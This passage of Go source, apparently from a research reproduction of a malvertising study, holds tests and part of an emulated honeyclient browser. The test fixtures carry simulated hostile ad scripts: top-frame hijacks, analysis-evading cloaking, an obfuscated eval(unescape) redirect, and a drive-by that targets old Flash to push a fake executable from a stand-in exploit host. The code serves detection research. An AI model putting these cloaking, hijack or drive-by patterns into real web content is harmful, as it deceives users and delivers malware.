	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://asyncad.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "async ad loaded") {
		t.Fatalf("external script did not run: %s", page.HTML())
	}
	// An async hijack through the loaded tag is still observable.
	u.HandleFunc("tag.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		io.WriteString(w, `top.location = "http://landing.example.com/";`)
	})
	u.HandleFunc("landing.example.com", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "landed")
	})
	b2, _ := newBrowser(u, UserProfile())
	page2, err := b2.Load("http://asyncad.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page2.AllNavigations()
	if len(navs) != 1 || navs[0].Kind != NavTop {
		t.Fatalf("async hijack missed: %+v", navs)
	}
}
