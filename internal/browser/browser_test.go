package browser

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"madave/internal/easylist"
	"madave/internal/memnet"
	"madave/internal/netcap"
)

// testWorld builds a small universe exercising every browser behaviour.
func testWorld() *memnet.Universe {
	u := memnet.NewUniverse()
	u.HandleFunc("www.page.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<h1>Page</h1>
			<img src="http://img.example.com/logo.png">
			<iframe src="http://frame.example.com/inner" width="300"></iframe>
		</body></html>`)
	})
	u.HandleFunc("frame.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><p>frame</p>
			<script>document.write('<img src="http://img.example.com/frame.png">');</script>
		</body></html>`)
	})
	u.HandleFunc("img.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/png")
		io.WriteString(w, "\x89PNGdata")
	})
	u.HandleFunc("hijack.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>top.location = "http://landing.example.com/win";</script></body></html>`)
	})
	u.HandleFunc("landing.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>landed</body></html>")
	})
	u.HandleFunc("cloak.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			if (navigator.plugins.length < 3 || screen.width < 800) {
				window.location = "http://www.google.example.com/";
			} else {
				document.write('<p id="realad">real ad</p>');
			}
		</script></body></html>`)
	})
	u.HandleFunc("www.google.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>search</body></html>")
	})
	u.HandleFunc("nxredir.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>window.location = "http://never-registered.example.zz/";</script></body></html>`)
	})
	u.HandleFunc("driveby.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var found = false;
			var ps = navigator.plugins;
			for (var i = 0; i < ps.length; i++) {
				if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
			}
			if (found) {
				document.write('<iframe src="http://exploit.example.com/go" width="1" height="1"></iframe>');
			}
		</script></body></html>`)
	})
	u.HandleFunc("exploit.example.com", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/go" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<html><body><script>window.location = "http://exploit.example.com/payload.exe";</script></body></html>`)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		io.WriteString(w, "MZ\x90EVIL:test")
	})
	u.HandleFunc("timer.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var order = "";
			setTimeout(function() { order += "b"; document.write("<p>" + order + "</p>"); }, 200);
			setTimeout(function() { order += "a"; }, 100);
		</script></body></html>`)
	})
	u.HandleFunc("sandboxed.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<iframe src="http://hijack.example.com/" sandbox="allow-scripts"></iframe>
		</body></html>`)
	})
	u.HandleFunc("redir1.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://redir2.example.com/", http.StatusFound)
	})
	u.HandleFunc("redir2.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://www.page.example.com/", http.StatusMovedPermanently)
	})
	u.HandleFunc("flash.example.com", func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".swf") {
			w.Header().Set("Content-Type", "application/x-shockwave-flash")
			io.WriteString(w, "FWSflashbytes")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><embed src="http://flash.example.com/m.swf" type="application/x-shockwave-flash"></body></html>`)
	})
	u.HandleFunc("obf.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		// eval(unescape("top.location = \"http://landing.example.com/x\";"))
		payload := `top.location = "http://landing.example.com/x";`
		var enc strings.Builder
		for i := 0; i < len(payload); i++ {
			fmt.Fprintf(&enc, "%%%02x", payload[i])
		}
		fmt.Fprintf(w, `<html><body><script>eval(unescape("%s"));</script></body></html>`, enc.String())
	})
	return u
}

func newBrowser(u *memnet.Universe, profile Profile) (*Browser, *netcap.Capture) {
	cap := netcap.New(&memnet.Transport{U: u})
	client := &http.Client{
		Transport: cap,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	b := New(client, profile)
	b.Capture = cap
	return b, cap
}

func TestLoadBasicPage(t *testing.T) {
	b, cap := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://www.page.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if page.Status != 200 || page.Doc == nil {
		t.Fatalf("page = %+v", page)
	}
	if len(page.Frames) != 1 {
		t.Fatalf("frames = %d", len(page.Frames))
	}
	inner := page.Frames[0]
	if !strings.Contains(inner.HTML(), "frame") {
		t.Fatalf("inner html = %q", inner.HTML())
	}
	// The frame's document.write ran: a second image was fetched.
	imgs := 0
	for _, tx := range cap.All() {
		if strings.Contains(tx.URL, "img.example.com") {
			imgs++
		}
	}
	if imgs != 2 {
		t.Fatalf("image fetches = %d, want 2 (static + written)", imgs)
	}
}

func TestDocumentWriteAppends(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://frame.example.com/inner", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Doc.Find("img")) != 1 {
		t.Fatalf("written img not in DOM: %s", page.HTML())
	}
}

func TestTopLocationHijackDetected(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://hijack.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 {
		t.Fatalf("navigations = %+v", navs)
	}
	if navs[0].Kind != NavTop || !strings.Contains(navs[0].Target, "landing.example.com") {
		t.Fatalf("nav = %+v", navs[0])
	}
	if navs[0].Blocked {
		t.Fatal("unsandboxed hijack must not be blocked")
	}
	if navs[0].Status != 200 {
		t.Fatalf("followed status = %d", navs[0].Status)
	}
}

func TestSandboxBlocksHijack(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://sandboxed.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 {
		t.Fatalf("navigations = %+v", navs)
	}
	if !navs[0].Blocked {
		t.Fatal("sandbox(allow-scripts) must block top navigation")
	}
}

func TestSandboxWithoutAllowScriptsDisablesScripts(t *testing.T) {
	u := testWorld()
	u.HandleFunc("strict.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><iframe src="http://hijack.example.com/" sandbox></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://strict.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.AllNavigations()) != 0 {
		t.Fatal("bare sandbox must prevent script execution entirely")
	}
}

func TestCloakingBranchesByProfile(t *testing.T) {
	// User profile: 4 plugins, big screen — sees the real ad.
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://cloak.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Navigations) != 0 {
		t.Fatalf("user profile should not be redirected: %+v", page.Navigations)
	}
	if !strings.Contains(page.HTML(), "realad") {
		t.Fatal("user profile should see real ad")
	}

	// Honeyclient profile: sparse — gets bounced to the benign site.
	hb, _ := newBrowser(testWorld(), HoneyclientProfile())
	hpage, err := hb.Load("http://cloak.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(hpage.Navigations) != 1 || hpage.Navigations[0].Kind != NavLocation {
		t.Fatalf("honeyclient navigations = %+v", hpage.Navigations)
	}
	if !strings.Contains(hpage.Navigations[0].Target, "google") {
		t.Fatalf("cloak target = %q", hpage.Navigations[0].Target)
	}
}

func TestNXDomainNavigation(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page, err := b.Load("http://nxredir.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Navigations) != 1 || !page.Navigations[0].NXDomain {
		t.Fatalf("navigations = %+v", page.Navigations)
	}
}

func TestDriveByDownloadObserved(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page, err := b.Load("http://driveby.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	downloads := page.AllDownloads()
	if len(downloads) != 1 {
		t.Fatalf("downloads = %+v", downloads)
	}
	d := downloads[0]
	if d.ContentType != "application/octet-stream" || !strings.HasPrefix(string(d.Body), "MZ") {
		t.Fatalf("download = %+v", d)
	}
}

func TestDriveByRequiresVulnerablePlugin(t *testing.T) {
	safe := Profile{
		Name: "patched", UserAgent: "x",
		Plugins: []Plugin{{Name: "Shockwave Flash", Version: 12}, {Name: "Java", Version: 9}, {Name: "PDF Viewer", Version: 11}},
		ScreenW: 1920, ScreenH: 1080,
	}
	b, _ := newBrowser(testWorld(), safe)
	page, err := b.Load("http://driveby.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.AllDownloads()) != 0 {
		t.Fatal("patched browser must not receive the payload")
	}
}

func TestSetTimeoutOrdering(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://timer.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	// Delay 100 runs before delay 200, so by the time the 200ms callback
	// writes, order is "ab".
	if !strings.Contains(page.HTML(), "<p>ab</p>") {
		t.Fatalf("timer order wrong: %s", page.HTML())
	}
}

func TestHTTPRedirectChainFollowed(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://redir1.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if page.FinalURL != "http://www.page.example.com/" {
		t.Fatalf("final = %q", page.FinalURL)
	}
	if len(page.RedirectHops) != 3 {
		t.Fatalf("hops = %v", page.RedirectHops)
	}
}

func TestFlashEmbedDownloaded(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://flash.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	downloads := page.AllDownloads()
	if len(downloads) != 1 || downloads[0].ContentType != "application/x-shockwave-flash" {
		t.Fatalf("downloads = %+v", downloads)
	}
	if !strings.HasPrefix(string(downloads[0].Body), "FWS") {
		t.Fatal("flash bytes missing")
	}
}

func TestObfuscatedHijackStillDetected(t *testing.T) {
	b, _ := newBrowser(testWorld(), UserProfile())
	page, err := b.Load("http://obf.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	navs := page.AllNavigations()
	if len(navs) != 1 || navs[0].Kind != NavTop {
		t.Fatalf("navigations = %+v", navs)
	}
}

func TestAdBlockerSuppressesFrames(t *testing.T) {
	list, err := easylist.ParseString("||hijack.example.com^\n||frame.example.com^")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := newBrowser(testWorld(), UserProfile())
	b.Blocker = list
	page, err := b.Load("http://www.page.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Frames) != 0 {
		t.Fatal("blocked frame should not load")
	}
	if len(page.Blocked) != 1 || !strings.Contains(page.Blocked[0], "frame.example.com") {
		t.Fatalf("blocked = %v", page.Blocked)
	}
}

func TestLoadHTMLOffline(t *testing.T) {
	b, _ := newBrowser(testWorld(), HoneyclientProfile())
	page := b.LoadHTML(`<html><body><script>top.location = "http://landing.example.com/w";</script></body></html>`,
		"http://snapshot.example.com/ad")
	if len(page.Navigations) != 1 || page.Navigations[0].Kind != NavTop {
		t.Fatalf("navigations = %+v", page.Navigations)
	}
}

func TestScriptErrorsDoNotAbortPage(t *testing.T) {
	u := testWorld()
	u.HandleFunc("broken.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<script>totally.broken.code(</script>
			<script>document.write('<p id="ok">still ran</p>');</script>
		</body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://broken.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Errors) == 0 {
		t.Fatal("expected a script error")
	}
	if !strings.Contains(page.HTML(), "still ran") {
		t.Fatal("later scripts should still run")
	}
}

func TestRunawayScriptBounded(t *testing.T) {
	u := testWorld()
	u.HandleFunc("loop.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>while (true) { var x = 1; }</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	b.ScriptBudget = 100_000
	page, err := b.Load("http://loop.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Errors) == 0 || !strings.Contains(page.Errors[0], "budget") {
		t.Fatalf("errors = %v", page.Errors)
	}
}

func TestRefererPropagation(t *testing.T) {
	u := testWorld()
	var gotRef string
	u.HandleFunc("refcheck.example.com", func(w http.ResponseWriter, r *http.Request) {
		gotRef = r.Header.Get("Referer")
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>ok</body></html>")
	})
	u.HandleFunc("parent.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><iframe src="http://refcheck.example.com/"></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	if _, err := b.Load("http://parent.example.com/", ""); err != nil {
		t.Fatal(err)
	}
	if gotRef != "http://parent.example.com/" {
		t.Fatalf("referer = %q", gotRef)
	}
}

func TestProfiles(t *testing.T) {
	up := UserProfile()
	hp := HoneyclientProfile()
	if len(up.Plugins) < 3 {
		t.Fatal("user profile needs a rich plugin list")
	}
	if len(hp.Plugins) >= 3 {
		t.Fatal("honeyclient profile must look sparse")
	}
	vulnerable := false
	for _, p := range hp.Plugins {
		if p.Name == "Shockwave Flash" && p.Version < 11 {
			vulnerable = true
		}
	}
	if !vulnerable {
		t.Fatal("honeyclient must advertise a vulnerable Flash")
	}
}
