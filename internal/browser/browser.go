// Package browser implements the emulated web browser of the reproduction.
// It plays two roles from the paper:
//
//   - the crawler's "real browser" (the paper drove Firefox via Selenium):
//     it fetches pages, renders iframes, executes ad scripts, and captures
//     all resulting traffic; and
//   - the honeyclient's instrumented browser (Wepawet's emulated browser):
//     same engine, different Profile, with every security-relevant event —
//     top.location hijacks, forced navigations, file downloads — recorded
//     for the oracle.
//
// The engine composes the repository's own substrates: htmlparse for the
// DOM, minijs for script execution, netcap/memnet for traffic.
package browser

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"strings"

	"madave/internal/easylist"
	"madave/internal/htmlparse"
	"madave/internal/memnet"
	"madave/internal/minijs"
	"madave/internal/netcap"
	"madave/internal/stats"
	"madave/internal/telemetry"
	"madave/internal/urlx"
)

// Plugin is one browser plugin advertised via navigator.plugins.
type Plugin struct {
	Name    string
	Version float64
}

// Profile describes the browser environment scripts can probe. Cloaking
// malvertisements branch on exactly these observables (§3.2.1).
type Profile struct {
	Name      string
	UserAgent string
	Plugins   []Plugin
	ScreenW   int
	ScreenH   int
}

// UserProfile models a regular user's desktop Firefox: a rich plugin list
// (including a vulnerable Flash — the population attackers target) and a
// normal screen.
func UserProfile() Profile {
	return Profile{
		Name:      "user",
		UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Firefox/24.0",
		Plugins: []Plugin{
			{Name: "Shockwave Flash", Version: 10},
			{Name: "Java", Version: 7},
			{Name: "PDF Viewer", Version: 11},
			{Name: "Silverlight", Version: 5},
		},
		ScreenW: 1920,
		ScreenH: 1080,
	}
}

// HoneyclientProfile models the analysis environment: deliberately
// vulnerable (so drive-bys fire) but visibly sparse — which is what
// cloaking campaigns sniff for.
func HoneyclientProfile() Profile {
	return Profile{
		Name:      "honeyclient",
		UserAgent: "Mozilla/5.0 (X11; Linux i686; rv:17.0) Gecko/20100101 Firefox/17.0",
		Plugins: []Plugin{
			{Name: "Shockwave Flash", Version: 10},
		},
		ScreenW: 1024,
		ScreenH: 768,
	}
}

// NavigationKind classifies how a script tried to move the browser.
type NavigationKind string

// Navigation kinds.
const (
	// NavLocation is a same-frame navigation (location.href = ...).
	NavLocation NavigationKind = "location"
	// NavTop is a top-level navigation from inside a frame — the
	// link-hijacking channel (§2.3).
	NavTop NavigationKind = "top"
)

// Navigation is one script-initiated navigation attempt.
type Navigation struct {
	Kind   NavigationKind
	Target string
	// Blocked is true when the iframe sandbox policy suppressed it.
	Blocked bool
	// NXDomain is true when the target host did not resolve.
	NXDomain bool
	// Status is the target's HTTP status when the browser followed it.
	Status int
	// ContentType is the target's content type when followed.
	ContentType string
}

// Download is a binary payload the page caused the browser to receive.
type Download struct {
	URL         string
	ContentType string
	Body        []byte
}

// Resource is a subresource fetch (image, script file, embed).
type Resource struct {
	URL         string
	Tag         string // originating element: img, embed, script
	Status      int
	ContentType string
	Err         string
}

// DOMWrite records one flush of script-generated markup into the document —
// the writes-DOM provenance the flowgraph turns into script→frame edges.
type DOMWrite struct {
	// Writer identifies the script that produced the markup: the resolved
	// src URL for external scripts, or "inline:<frameID>:<n>" for the n-th
	// inline script executed in the frame.
	Writer string
	// Tags lists the top-level element tags the write introduced, in
	// document order ("img", "iframe", "a", ...).
	Tags []string
}

// Page is the result of loading one document (the top page or one iframe).
type Page struct {
	// URL is the requested URL; FinalURL reflects HTTP redirects.
	URL      string
	FinalURL string
	Status   int
	// Doc is the DOM after script execution (document.write applied).
	Doc *htmlparse.Node
	// Sandboxed is true when this frame was loaded under a sandbox
	// attribute.
	Sandboxed bool
	// Scripts holds the source of every executed script.
	Scripts []string
	// Navigations, Downloads, Resources record what the document did.
	Navigations []Navigation
	Downloads   []Download
	Resources   []Resource
	// Frames are the child iframes, recursively loaded.
	Frames []*Page
	// FrameElems are the iframe elements found (parallel to all iframes in
	// the DOM, including blocked ones).
	FrameElems []*htmlparse.Node
	// Blocked lists URLs the ad blocker (when installed) refused to fetch.
	Blocked []string
	// Errors holds script and fetch errors (informational).
	Errors []string
	// RedirectHops is the HTTP redirect chain that led to FinalURL,
	// starting with URL.
	RedirectHops []string
	// FrameID is the frame's position in the frame tree: "0" for the top
	// document, "0.1" for its second iframe, and so on. Every transaction
	// this frame's load captured carries the same ID.
	FrameID string
	// DOMWrites records each script-driven markup flush (document.write and
	// timer writes), attributed to the writing script.
	DOMWrites []DOMWrite

	// sandboxTokens is the raw sandbox attribute value for sandboxed
	// frames ("" when absent or empty).
	sandboxTokens string
}

// HTML returns the final serialized document, the artefact the paper stored
// for every advertisement iframe.
func (p *Page) HTML() string {
	if p.Doc == nil {
		return ""
	}
	return p.Doc.Render()
}

// AllNavigations returns this page's and all descendant frames'
// navigations.
func (p *Page) AllNavigations() []Navigation {
	out := append([]Navigation{}, p.Navigations...)
	for _, f := range p.Frames {
		out = append(out, f.AllNavigations()...)
	}
	return out
}

// AllDownloads returns this page's and all descendant frames' downloads.
func (p *Page) AllDownloads() []Download {
	out := append([]Download{}, p.Downloads...)
	for _, f := range p.Frames {
		out = append(out, f.AllDownloads()...)
	}
	return out
}

// AllResources returns this page's and all descendant frames' resources.
func (p *Page) AllResources() []Resource {
	out := append([]Resource{}, p.Resources...)
	for _, f := range p.Frames {
		out = append(out, f.AllResources()...)
	}
	return out
}

// WalkFrames visits the page and every descendant frame, parents first.
func (p *Page) WalkFrames(fn func(*Page)) {
	fn(p)
	for _, f := range p.Frames {
		f.WalkFrames(fn)
	}
}

// Browser is the emulated browser. Construct with New.
type Browser struct {
	// Client performs HTTP; it must not follow redirects itself (the
	// browser follows them so each hop is observable).
	Client *http.Client
	// Capture, when set, tags and records synthetic events (blocked
	// navigations) alongside the transport capture.
	Capture *netcap.Capture
	// Tel, when non-nil, records a browser.load span per frame (the top
	// document and each iframe, nested) and stage latency samples.
	// Observational only: rendering decisions never consult it.
	Tel     *telemetry.Set
	Profile Profile
	// RNG drives Math.random inside scripts.
	RNG *stats.RNG
	// MaxFrameDepth bounds iframe nesting; MaxRedirects bounds HTTP
	// redirect chains (must accommodate adnet.MaxChain hops).
	MaxFrameDepth int
	MaxRedirects  int
	// ScriptBudget is the minijs step allowance per document.
	ScriptBudget int
	// CodeCache, when set, shares parsed+compiled scripts across documents
	// keyed by source hash. Ad corpora repeat the same creatives, so this
	// removes most parse/compile work from every visit after the first.
	CodeCache *minijs.CodeCache
	// TolerantJS parses scripts with error recovery: broken creatives run
	// to a deterministic partial result instead of failing outright, and
	// their syntax diagnostics land in Page.Errors.
	TolerantJS bool
	// TreeWalkJS disables the bytecode VM and executes ASTs directly —
	// the escape hatch behind the -minijs-interp flag.
	TreeWalkJS bool
	// FollowNavigations controls whether script navigations are fetched
	// (one GET, no rendering) to observe their outcome.
	FollowNavigations bool
	// Blocker, when set, is consulted before every fetch; matching URLs
	// are not requested (the Adblock Plus countermeasure of §5.2).
	Blocker *easylist.List
	// blockCtx is the reusable EasyList match context for this browser's
	// Blocker calls. A Browser serves one goroutine, so one context
	// amortizes the per-request scratch across every fetch it checks.
	blockCtx easylist.RequestCtx
	// baseHeader is the shared header map for refererless requests and
	// uaVal the cached User-Agent value slice, both built on first fetch.
	// Sharing them across requests is safe because the transport stack
	// treats request headers as read-only (see memnet.Transport).
	baseHeader http.Header
	uaVal      []string
	// navObj/screenObj are the frozen shared navigator and screen host
	// objects, pure functions of Profile, built on first script run.
	navObj    *minijs.Object
	screenObj *minijs.Object
	// EnforceSandbox honors iframe sandbox attributes. Real browsers do;
	// the study's finding is that no publisher used them.
	EnforceSandbox bool
	// cookies is the per-registered-domain cookie jar document.cookie
	// reads and writes (ads use it for frequency capping).
	cookies map[string]map[string]string
	// ClockMillis is the logical wall-clock time (ms since epoch) scripts
	// see through Date — fixed per browser so runs are reproducible.
	// Time-of-day cloaking (ads that only misbehave at night) branches on
	// this.
	ClockMillis int64
}

// Cookie returns the value of a cookie set for the host's registered
// domain, and whether it exists.
func (b *Browser) Cookie(host, name string) (string, bool) {
	domain := urlx.RegisteredDomain(host)
	if b.cookies == nil || b.cookies[domain] == nil {
		return "", false
	}
	v, ok := b.cookies[domain][name]
	return v, ok
}

// setCookie stores a "name=value[; attributes]" cookie string for a host.
func (b *Browser) setCookie(host, raw string) {
	domain := urlx.RegisteredDomain(host)
	if domain == "" {
		domain = host
	}
	// Only the name=value pair matters to the simulation; attributes
	// (path, expires) are accepted and ignored.
	pair := raw
	if i := strings.IndexByte(raw, ';'); i >= 0 {
		pair = raw[:i]
	}
	eq := strings.IndexByte(pair, '=')
	if eq <= 0 {
		return
	}
	name := strings.TrimSpace(pair[:eq])
	value := strings.TrimSpace(pair[eq+1:])
	if name == "" {
		return
	}
	if b.cookies == nil {
		b.cookies = map[string]map[string]string{}
	}
	if b.cookies[domain] == nil {
		b.cookies[domain] = map[string]string{}
	}
	b.cookies[domain][name] = value
}

// cookieHeader renders the stored cookies for a host as "k=v; k2=v2" in
// sorted key order (deterministic for the corpus hashes).
func (b *Browser) cookieHeader(host string) string {
	domain := urlx.RegisteredDomain(host)
	jar := b.cookies[domain]
	if len(jar) == 0 {
		return ""
	}
	keys := make([]string, 0, len(jar))
	for k := range jar {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, len(keys))
	for i, k := range keys {
		parts[i] = k + "=" + jar[k]
	}
	return strings.Join(parts, "; ")
}

// New returns a Browser with sane defaults over the given client.
func New(client *http.Client, profile Profile) *Browser {
	return &Browser{
		Client:            client,
		Profile:           profile,
		RNG:               stats.NewRNG(0xB40153),
		MaxFrameDepth:     4,
		MaxRedirects:      40,
		ScriptBudget:      500_000,
		FollowNavigations: true,
		EnforceSandbox:    true,
		// A fixed Tuesday afternoon (2014-03-11 14:30 UTC), mid-crawl for
		// the paper's collection window.
		ClockMillis: 1_394_548_200_000,
	}
}

// maxBodyBytes bounds how much of any response the browser retains.
const maxBodyBytes = 1 << 20

// Load fetches and renders the document at url. referer may be empty.
func (b *Browser) Load(url, referer string) (*Page, error) {
	return b.LoadContext(context.Background(), url, referer)
}

// LoadContext is Load under a caller-supplied context: the deadline (or
// cancellation) bounds every fetch the page triggers — the document itself,
// its redirects, subresources, script-driven requests, and child iframes.
// When the context ends mid-render, the returned page keeps whatever was
// already loaded (partial pages still count, like the paper's crawler
// keeping whatever a flaky ad server managed to deliver).
func (b *Browser) LoadContext(ctx context.Context, url, referer string) (*Page, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	return b.loadFrame(ctx, url, referer, 0, false, "", rootFrameID)
}

// LoadHTML renders an HTML document without fetching it — the honeyclient
// re-analyzes corpus snapshots this way. baseURL provides the resolution
// context for relative references.
func (b *Browser) LoadHTML(html, baseURL string) *Page {
	return b.LoadHTMLContext(context.Background(), html, baseURL)
}

// LoadHTMLContext is LoadHTML under a caller-supplied context.
func (b *Browser) LoadHTMLContext(ctx context.Context, html, baseURL string) *Page {
	if ctx == nil {
		ctx = context.Background()
	}
	if b.Tel != nil {
		var sp *telemetry.Span
		ctx, sp = b.Tel.StartSpan(ctx, telemetry.StageBrowserLoad, baseURL)
		defer sp.End()
	}
	page := &Page{URL: baseURL, FinalURL: baseURL, Status: 200, RedirectHops: []string{baseURL}, FrameID: rootFrameID}
	page.Doc = htmlparse.Parse(html)
	b.processDocument(ctx, page, 0, false)
	return page
}

// rootFrameID is the frame-tree path of the top document.
const rootFrameID = "0"

// stampOrigin sets the provenance the capture (when present) stamps onto
// subsequently recorded transactions. Every fetch site stamps right before
// it issues the request, so no restore step is needed.
func (b *Browser) stampOrigin(frameID, initiator, via string) {
	if b.Capture != nil {
		b.Capture.SetOrigin(frameID, initiator, via)
	}
}

// loadFrame fetches one document, following HTTP redirects, then renders it.
func (b *Browser) loadFrame(ctx context.Context, url, referer string, depth int, sandboxed bool, sandboxTokens, frameID string) (*Page, error) {
	if b.Tel != nil {
		var sp *telemetry.Span
		ctx, sp = b.Tel.StartSpan(ctx, telemetry.StageBrowserLoad, url)
		defer sp.End()
	}
	page := &Page{URL: url, Sandboxed: sandboxed, sandboxTokens: sandboxTokens, FrameID: frameID}
	via := "document"
	if depth > 0 {
		via = "iframe"
	}
	cur := url
	hops := []string{url}
	var resp *http.Response
	for i := 0; ; i++ {
		if i > b.MaxRedirects {
			return page, fmt.Errorf("browser: redirect limit exceeded at %s", cur)
		}
		b.stampOrigin(frameID, referer, via)
		var err error
		resp, err = b.get(ctx, cur, referer)
		if err != nil {
			page.Errors = append(page.Errors, err.Error())
			page.FinalURL = cur
			page.RedirectHops = hops
			return page, err
		}
		if resp.StatusCode >= 300 && resp.StatusCode < 400 {
			loc := resp.Header.Get("Location")
			io.Copy(io.Discard, io.LimitReader(resp.Body, maxBodyBytes)) //nolint:errcheck
			resp.Body.Close()
			if loc == "" {
				break
			}
			next := urlx.Resolve(cur, loc)
			if next == "" || next == cur {
				break
			}
			referer = cur
			cur = next
			hops = append(hops, next)
			via = "redirect" // later hops are initiated by the redirecting URL
			continue
		}
		break
	}
	defer resp.Body.Close()
	page.FinalURL = cur
	page.RedirectHops = hops
	page.Status = resp.StatusCode

	body := readCapped(resp)
	ct := mediaType(resp.Header.Get("Content-Type"))
	if isDownloadType(ct) {
		page.Downloads = append(page.Downloads, Download{URL: cur, ContentType: ct, Body: body})
		return page, nil
	}
	if !strings.Contains(ct, "html") && ct != "" {
		// Non-HTML frame content (e.g. an image iframe): nothing to render.
		return page, nil
	}
	page.Doc = htmlparse.Parse(string(body))
	b.processDocument(ctx, page, depth, sandboxed)
	return page, nil
}

// processDocument runs scripts, loads subresources, and recurses into
// iframes for an already-parsed page.
func (b *Browser) processDocument(ctx context.Context, page *Page, depth int, sandboxed bool) {
	allowScripts := !sandboxed || b.sandboxAllows(page, "allow-scripts")
	if allowScripts {
		b.runScripts(ctx, page, sandboxed)
	}
	b.loadResources(ctx, page)
	if depth < b.MaxFrameDepth {
		b.loadFrames(ctx, page, depth)
	}
}

// sandboxAllows checks the frame's sandbox token list. It is only
// meaningful for frames loaded with a sandbox attribute; the token list is
// stashed on the page by loadFrames via the sandboxTokens field.
func (b *Browser) sandboxAllows(page *Page, token string) bool {
	return strings.Contains(page.sandboxTokens, token)
}

// blockedBy consults the Blocker, if any, through the browser's reusable
// match context.
